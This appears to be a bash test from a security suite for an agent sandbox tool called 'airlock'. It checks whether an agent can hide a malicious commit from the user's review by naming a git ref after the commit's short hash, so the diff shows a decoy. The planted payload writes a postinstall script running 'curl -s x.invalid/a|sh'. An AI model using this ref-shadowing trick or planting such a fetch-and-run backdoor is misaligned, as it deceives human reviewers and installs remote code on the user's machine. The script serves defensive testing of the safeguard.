#!/bin/bash
# 01 (phase 1): `airlock diff NAME --commit COMMIT PATH` is what the user
# reads before `--accept HISTORY:COMMIT`. COMMIT is the 12 hex digits the
# refusal prints. If the host resolves them as a git revision in the
# quarantine, a ref the agent names with those same 12 digits wins over the
# abbreviated object name (git prefers refs for short hex). The user's
# postinstall runs tools/setup.js; C1 backdoors it, C2 reverts; a side
# commit D makes an honest-looking setup.js change; then the agent makes
# refs/heads/<C1's 12 digits> (V=tag: refs/tags/...; V=both) point at D.
# Got through = `airlock diff --commit <C1 12 digits> tools/setup.js`
# does not show C1's curl|sh (shows D's decoy), while the refusal asks to
# accept C1, and accepting it brings C1 home.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"
MODE=${1:-direct}; V=${V:-both}
NPKG=2 mkproj; mkdir -p tools && echo 'console.log("setup ok")' > tools/setup.js
printf '{"name":"p","version":"1.0.0","main":"out/extension.js","scripts":{"build":"tsc","postinstall":"node tools/setup.js"}}\n' > package.json
write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
cp tools/setup.js /tmp/s
echo 'require("child_process").execSync("curl -s x.invalid/a|sh")' > tools/setup.js && git commit -qam "C1 setup"
C1=$(git rev-parse HEAD); S=$(git rev-parse --short=12 HEAD)
cp /tmp/s tools/setup.js && git commit -qam "C2 revert"
git checkout -q -b side HEAD~2
echo 'console.log("setup ok, v2")' > tools/setup.js && git commit -qam "D decoy"; D=$(git rev-parse HEAD)
git checkout -q -; git branch -D -q side 2>/dev/null || true
case "$V" in branch|both) git branch "$S" "$D";; esac
case "$V" in tag|both) git tag "$S" "$D";; esac
echo "// done" >> src/extension.ts && git commit -qam "C3"
echo "C1=$C1 D=$D"; git for-each-ref --format="%(refname) %(objectname:short)" | tr "\n" " "; echo
P
airlock exec -i "$N" -- sh -c 'cat > /tmp/plant.sh' < "$T/plant.sh" || exit 2
ag "V=$V sh /tmp/plant.sh" | tee "$T/agent.log"
C1=$(grep -o 'C1=[0-9a-f]*' "$T/agent.log" | cut -d= -f2); [ -n "$C1" ] || exit 2
sleep 0.5
try hexref
S=$(grep -o 'HISTORY:[0-9a-f]*' "$T/apply.log" | head -1 | cut -d: -f2); echo "  refusal asks for HISTORY:$S (C1 is $C1)"
[ -n "$S" ] || { echo "  no history refusal"; has_branch && hist_has 'x.invalid/a' && R=1; finish; }
airlock diff "$N" --commit "$S" tools/setup.js >"$T/diff.txt" 2>&1; echo "  diff --commit $S rc=$?:"; sed 's/^/    /' "$T/diff.txt" | head -12
airlock apply "$N" --branch t-hexref2 --accept "HISTORY:$S" >"$T/apply2.log" 2>&1; echo "  apply --accept HISTORY:$S rc=$?: $(tail -2 "$T/apply2.log" | tr '\n' ' ')"
BR=t-hexref2
if has_branch && hist_has 'x.invalid/a' && ! grep -q 'x.invalid/a' "$T/diff.txt"; then
	echo "  the user accepted $S after diff --commit showed something else; the branch carries C1's curl|sh"; R=1; fi
finish
